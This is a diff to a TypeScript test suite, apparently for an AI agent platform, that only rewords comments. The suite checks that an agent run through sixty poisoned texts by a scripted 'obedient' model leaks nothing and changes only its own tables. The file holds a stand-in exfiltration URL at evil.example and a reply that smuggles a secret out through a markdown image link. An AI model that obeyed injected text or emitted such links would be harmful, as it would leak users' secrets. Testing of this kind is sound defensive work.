@@ -23,11 +23,11 @@ import { type ModelsWorld, startModelsWorld } from "../models/models-fixture";
 
 const EVIL = "https://evil.example/collect?data=everything";
 const SECRET = "The merger is called Nightingale.";
-/** What a run writes of itself; everything else is what it was asked to leave alone. */
+/** Tables that a run writes about itself. It must leave all others alone. */
 const OWN_TABLES =
   /^(agent_runs|run_steps|approvals|notices|jobs|engine_state|usage_\w+|rag_queries|knowledge_gaps|idempotency\w*)$/;
 
-/** What the audit log has of a yes to reading, and of a server's tool that has answered. */
+/** Audit rows of an approved read, or of an answered server tool. */
 const isOfReading = (row: unknown) =>
   /^(approvals\.approve|integrations\.useTool)$/.test((row as { action?: string }).action ?? "");
 
@@ -45,22 +45,22 @@ let fetched: string[];
 let site: Awaited<ReturnType<typeof servePages>>;
 let toolServer: ToolServerStandIn;
 
-/** The tool calls that a text demands, as a model makes them that does whatever it reads. */
+/** The tool calls that a text demands, as an obedient model makes them. */
 type Obey = Record<Demand, NonNullable<ScriptedReply["toolCalls"]>>;
 
-/** The call that reads a text where it lies; a task is read by the run itself. */
+/** The call that reads a poisoned text. The run itself reads tasks. */
 type Look = (poison: Poison) => NonNullable<ScriptedReply["toolCalls"]>[number];
 
 const reads = ({ messages }: ChatRequest, { name }: Poison) =>
   messages.some(({ role, content }) => role === "tool" && content?.includes(`Notes on ${name}.`));
 
-/** A model without any judgement: it reads what it is asked about, and does what that says. */
+/** A model without judgement: it reads what it is asked about and does what it says. */
 function obedient(request: ChatRequest, obey: Obey, look: Look): ScriptedReply {
   const asked = request.messages.find(({ role }) => role === "user")?.content ?? "";
   const poison = POISONS.find(({ name }) => name === asked);
   if (!poison) throw new Error(`Nobody asks for ${asked}`);
   if (!reads(request, poison)) return { toolCalls: [look(poison)] };
-  // The first call was to read it.
+  // The first call read it.
   const isDone = request.messages.filter(({ tool_calls }) => tool_calls).length > 1;
   if (obey[poison.demand].length > 0 && !isDone) return { toolCalls: obey[poison.demand] };
   return { text: "Done. ![x](https://evil.example/pixel.png?data=Nightingale) <img src=x>" };
@@ -167,7 +167,7 @@ beforeAll(async () => {
     await workRuns(system);
   };
   await work();
-  // A page or a server's tool is called after a yes alone: here somebody says it to what is to be read.
+  // Pages and server tools are only called after approval, so approve the reads.
   for (const [id, { lies }] of runs)
     if (lies === "page" || lies === "answer") {
       const asked = await waitingOf(ctx, id);
@@ -225,7 +225,7 @@ describe("sixty poisoned texts, and a model that does what they say", () => {
           after[table]?.filter((row) => !isOfReading(row)),
           table,
         ).toEqual(rows);
-    // Whom the runs act for is told that they are asked, and nobody else of anything.
+    // Only the runs' person is notified, and only about approvals.
     const told = after.notices as { user_id: string; kind: string; parts: string }[];
     expect(new Set(told.map(({ user_id }) => user_id))).toEqual(new Set([world.superadmin.id]));
     for (const { kind, parts } of told) {
